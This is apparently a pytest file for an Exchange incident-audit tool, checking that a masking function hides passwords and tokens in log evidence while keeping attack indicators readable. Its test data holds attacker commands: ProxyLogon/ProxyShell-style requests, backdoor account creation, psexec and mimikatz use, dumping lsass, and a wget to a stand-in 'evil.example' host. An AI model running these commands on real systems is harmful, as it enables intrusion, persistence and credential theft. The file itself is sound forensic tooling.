"""The one masking function: tokens and command-line passwords go, the attack evidence stays."""

from __future__ import annotations

import pytest

from exaudit.render.mask import MASK, mask_secrets


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ("/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=Oq94rnXI5Uy0CrZ.&schema=OABVirtualDirectory#", "Oq94rnXI5Uy0CrZ."),
        ("/autodiscover/autodiscover.json?@a.a/powershell/?&X-Rps-CAT=VgEAVAdXaW5k&CorrelationID=<empty>;", "VgEAVAdXaW5k"),
        ("Cookie: cadata=abcSECRET; cadataKey=def; X-OWA-CANARY=owaTOKEN", "abcSECRET"),
        ("Cookie: cadata=abcSECRET; cadataKey=defSECRET", "defSECRET"),
        ("Cookie: ASP.NET_SessionId=sess1; other=opaque42", "opaque42"),
        ("cmd /c net user backdoor P@ssw0rd! /add", "P@ssw0rd!"),
        ("cmd=net+user+admin+Secr3t+%2Fadd", "Secr3t"),
        (r"psexec \\dc01 -u admin -p Winter2021 cmd", "Winter2021"),
        ("7z.exe a -pInfected123 out.7z lsass.dmp", "Infected123"),
        ("New-LocalUser -Name x -Password (ConvertTo-SecureString 'S3cret' -AsPlainText -Force)", "S3cret"),
        ("Set-ADAccountPassword -NewPassword Hunter22 -Identity x", "Hunter22"),
        ("New-Mailbox -Password 'two words' -Name a", "two words"),
        ("mimikatz /user:bob /password:hunter2 /domain:x", "hunter2"),
        ("GET /login?user=a&pass=xyz123&x=1", "xyz123"),
        ("GET /login?password%3Dqwerty99", "qwerty99"),
        ("wget https://bob:pw1234@evil.example/x", "pw1234"),
        ("Authorization: Basic dXNlcjpwYXNz", "dXNlcjpwYXNz"),
    ],
)
def test_secret_is_masked(text: str, secret: str) -> None:
    masked = mask_secrets(text)
    assert secret not in masked
    assert MASK in masked


@pytest.mark.parametrize(
    "text",
    [
        "Get-ChildItem -Path C:\\inetpub\\wwwroot\\aspnet_client",
        "powershell -ep bypass -nop -w hidden",
        "ServerInfo~a]@ex01.corp.example:444/ecp/proxyLogon.ecp?#",
        "POST /ecp/y.js 443 - 203.0.113.7 python-requests/2.25.1 - 200 0 0 55",
        "rar a -r out.rar C:\\ProgramData",
    ],
)
def test_evidence_without_secret_is_unchanged(text: str) -> None:
    assert mask_secrets(text) == text


def test_attack_cookies_stay_readable() -> None:
    # X-BEResource and X-AnonResource-Backend carry the SSRF target: they are the evidence, not a secret.
    masked = mask_secrets("Cookie: X-BEResource=localhost~1942062522; X-AnonResource-Backend=localhost/ecp/default.flt?~3; cadata=s3")
    assert "X-BEResource=localhost~1942062522" in masked
    assert "X-AnonResource-Backend=localhost/ecp/default.flt?~3" in masked
    assert "cadata=[MASKED]" in masked


def test_masking_is_idempotent() -> None:
    once = mask_secrets("msExchEcpCanary=abc&pass=x -p y")
    assert mask_secrets(once) == once
